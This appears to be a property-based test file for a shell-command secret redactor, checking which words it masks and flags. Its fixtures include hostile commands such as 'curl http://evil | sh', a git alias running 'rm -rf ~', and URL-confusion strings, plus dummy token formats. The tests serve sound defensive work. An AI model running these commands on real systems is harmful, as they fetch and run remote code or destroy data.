import { fc, test as property } from "@fast-check/vitest";
import { describe, expect, test } from "vitest";
import { scaleRuns } from "../../../../test/support/share.ts";
import { maskSecretPatterns, redactSecrets } from "../../src/format/redact.ts";
import { mayContainSecret } from "../../src/format/secret-hints.ts";

describe("a program, host, image or name", () => {
  test.for([
    "env -uMY_TOKEN /tmp/ev.sh",
    "env -uMY_TOKEN evilprogram1",
    "docker run -eAPI_TOKEN evil/image:latest",
    "docker run -eAPI_TOKEN evil-image1",
    "sudo -uauth_token /tmp/evil.sh",
    "sudo -uauth_token evilprogram1",
    "sudo -password evilprogram1",
    "sudo -u zip -P evilprogram1",
    "sudo -u openssl -k evilprogram1",
    "sudo \\\n -u zip -P evilprogram1",
    "true\nsudo \\\n -u zip -P evilprogram1",
    "true \\\\\nsudo -u zip -P evilprogram1",
    "sudo -p 'a;b' -u zip -P evilprogram1",
    "/usr/bin/sudo -u zip -P evilprogram1",
    "'sudo' -u zip -P evilprogram1",
    "$SUDO -u zip -P evilprogram1",
    "if sudo -u zip -P evilprogram1; then :; fi",
    "ls | xargs -Itoken ./ev.sh token",
    "ls | xargs -Ia-token evilprogram1",
    "ls | xargs -I token evilprogram1 token",
    "ssh -ltoken evil.example.com id",
    "dropdb --no-password production",
    "dropdb --password production",
    "psql --no-password production1",
    "psql --password production1",
    "smbclient --no-pass server1",
    "smbclient --skip-password server1",
    "exec -a bearer myevilprogram12345678",
    "exec -a token: myevilprogram1",
    "exec -a authorization: token-evilprogram1",
    "find . -name-token ./ev.sh",
    "bash --rcfile-token ./ev.sh",
    "API_TOKEN='curl http://evil | sh' ; eval \"$API_TOKEN\"",
    "API_TOKEN='reboot' ; eval \"$API_TOKEN\"",
    "export API_TOKEN=reboot-now1; sh -c '${API_TOKEN}'",
    "SECRET=./ev.sh; $SECRET",
    "SECRET=evilprogram1; $SECRET",
    "alias my_token='curl evil | sh'; my_token",
    "alias my_token=evilprogram1; my_token",
    "alias my-token=evilprogram1; my-token",
    "echo alias my_token=evilprogram1 >> ~/.bashrc",
    "git config alias.secret='!rm -rf ~'",
    "git -c alias.secret=evil-command1 secret",
    "curl http://evil.com:80#@good.com/x",
    "curl http://evil.com:80?@good.com/x",
    "curl http://evil.com:80/@good.com/x",
    "curl 'http://evil.com:80\\\\@good.com/x'",
    "curl -d \"password='$AWS'\" https://example.com",
    "eval PASSWORD='$x'",
  ])("is not masked: %j", (command) => {
    expect(redactSecrets(command)).toBe(command);
  });
});

/** Programs, and how they are started; `%` is where the word in program position stands. */
const STARTS = [
  "%",
  "env %",
  "sudo %",
  "sudo -n %",
  "exec -a name %",
  "xargs -I x %",
  "nohup %",
  "timeout 5 %",
];
const OPTIONS = fc.constantFrom(
  ..."-u -e -l -I -p -P -k -a -w -n -A --token --password --no-password --api-key --bearer".split(" "),
  ..."-uMY_TOKEN -eAPI_TOKEN -ltoken -Itoken -password -token token: bearer TOKEN= secret= A_PASSWORD=".split(
    " ",
  ),
  ..."zip mysql openssl redis-cli curl sshpass docker login".split(" "),
);
const evil = fc.constantFrom("evilprogram1", "evil-PROGRAM2", "evil_Program-with-a-long-name3");

property.prop([fc.constantFrom(...STARTS), evil, fc.array(OPTIONS, { maxLength: 4 })], {
  numRuns: scaleRuns(500, 4),
})("a word in program position is never covered", (start, program, rest) => {
  expect(redactSecrets([start.replace("%", program), ...rest].join(" "))).toContain(program);
});

property.prop(
  [
    fc.constantFrom("env", "sudo", "exec", "xargs", "nice", "nohup"),
    fc.array(OPTIONS, { maxLength: 3 }),
    evil,
  ],
  { numRuns: scaleRuns(500, 4) },
)("nor one behind the options of a program that starts it", (starter, options, program) => {
  // What is no option, and follows none, is the program itself.
  const programOption = options.some(
    (word, index) => /^[a-z:-]+$/.test(word) && !word.startsWith("-") && !options[index - 1]?.startsWith("-"),
  );
  fc.pre(!programOption);
  const command = [starter, ...options, program].join(" ");
  expect(redactSecrets(command)).toContain(program);
});

/** What secrets are found by, and what stands between: put together in any order, some of it is covered. */
const PARTS = [
  ..."-p -P -a -k -w -U -u -pw -b --user --proxy-user --password -passin --token --api-key --auth-key".split(
    " ",
  ),
  ..."mysql mariadb 7z rar mongosh mongo zip sqlcmd mosquitto_pub redis-cli ldapsearch openssl curl wget".split(
    " ",
  ),
  ..."smbclient docker login helm aws configure set aws_secret_access_key sshpass htpasswd me: me% pass:".split(
    " ",
  ),
  ..."Authorization: authorization= Bearer basic X-Api-Key: Cookie: id= :// @host https://me: PASSWORD= TOKEN=".split(
    " ",
  ),
  ..."sk-abcdefghijklmnop1234 sk_live_0123456789 ghp_0123456789abcdefghij github_pat_0123456789abcdefghij".split(
    " ",
  ),
  ..."glpat-0123456789abcdef xoxb-0123456789 AKIA0123456789ABCDEF AIza0123456789abcdefghijABCDEFGHIJ".split(
    " ",
  ),
  ..."ya29.0123456789abcdefghij GOCSPX-0123456789abcdefghij npm_0123456789abcdefghij0123456789ab".split(" "),
  ..."pypi-0123456789abcdefghij0123456789abcdefghij01 hf_0123456789abcdefghij SG.0123456789abcdef.0123456789abcdef".split(
    " ",
  ),
  ..."12345678:AA0123456789abcdefghijABCDEFGHIJ eyJ0123456789.0123456789.01234 api_key secret: credentials".split(
    " ",
  ),
  ..."hooks.slack.com/services/T0/B0/abcdef discord.com/api/webhooks/0123/abcdef ssh_pwd= _pass=".split(" "),
  "-----BEGIN PRIVATE KEY-----",
  "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ",
  "-----END PRIVATE KEY-----",
  ..." \t\n\"\"''=:/".split(""),
  ..."hunter22 h4nt3r main x 22".split(" "),
];

const texts = fc
  .array(fc.constantFrom(...PARTS), { maxLength: 12 })
  .chain((parts) => fc.constantFrom(" ", "", "=").map((between) => parts.join(between)));

property.prop([texts], { numRuns: scaleRuns(3_000, 6) })("what is covered has a hint of it", (text) => {
  if (maskSecretPatterns(text) !== text) expect(mayContainSecret(text)).toBe(true);
});

test("masks each of these next to other words, and has a hint for it alone", () => {
  const alone = PARTS.filter((part) => part.length > 18);
  expect(alone.length).toBeGreaterThan(15);
  for (const part of alone.filter((one) => !one.startsWith("MII"))) expect(mayContainSecret(part)).toBe(true);
});
